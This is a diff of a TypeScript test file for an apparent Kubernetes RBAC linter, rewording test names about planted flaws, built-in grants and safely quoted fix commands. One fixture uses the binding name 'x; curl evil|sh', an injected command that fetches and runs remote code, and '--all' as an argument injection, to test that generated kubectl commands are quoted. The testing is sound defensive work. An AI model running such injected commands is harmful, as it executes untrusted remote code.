@@ -30,7 +30,7 @@ const lint = (objects: readonly PlantedObject[]) => {
 }
 
 describe('planted flaws', () => {
-  it('are more than 50, each with a source of its own words', () => {
+  it('are more than 50, each with a source', () => {
     expect(flaws.length).toBeGreaterThanOrEqual(50)
     expect(new Set(flaws.map(({ finding: { object } }) => object)).size).toBe(flaws.length)
     for (const { source } of flaws) expect(source.length).toBeGreaterThan(6)
@@ -42,7 +42,7 @@ describe('planted flaws', () => {
     for (const { text, attack, fix } of found) for (const one of [text, attack, fix]) expect(one).toMatch(/\.$/)
   })
 
-  it('are found together as they are found alone', () => {
+  it('are found together as well as alone', () => {
     const together = lint(flaws.flatMap(({ objects }) => objects))
     const isFound = ({ control, object }: (typeof flaws)[number]['finding']) =>
       together.some((one) => one.object === object && one.id.split('/')[0]?.split('+').includes(control))
@@ -73,7 +73,7 @@ describe('no finding', () => {
   })
 })
 
-test('what Kubernetes gives to its own is no finding, and one rule more is', () => {
+test("Kubernetes' own grants are no finding, but one additional rule is", () => {
   const known = binding('system:kube-scheduler', 'system:kube-scheduler', [user('system:kube-scheduler')])
   expect(lint([known])).toEqual([])
   expect(lint([known, role('system:kube-scheduler', ['get secrets'])])).toMatchObject([{ control: 'RB-05' }])
@@ -83,7 +83,7 @@ test('what Kubernetes gives to its own is no finding, and one rule more is', () 
 test.each([
   ['x; curl evil|sh', "`kubectl delete 'rolebinding/x; curl evil|sh' -n shop`"],
   ['--all', '`kubectl delete rolebinding/--all -n shop`'],
-])('a binding named %s does nothing else to who copies the command', (name, command) => {
+])('a command for a binding named %s is safe to copy', (name, command) => {
   const [found] = lint([binding(name, 'admin', [user('oidc:ann')], 'shop')])
   expect(found?.fix).toContain(command)
 })
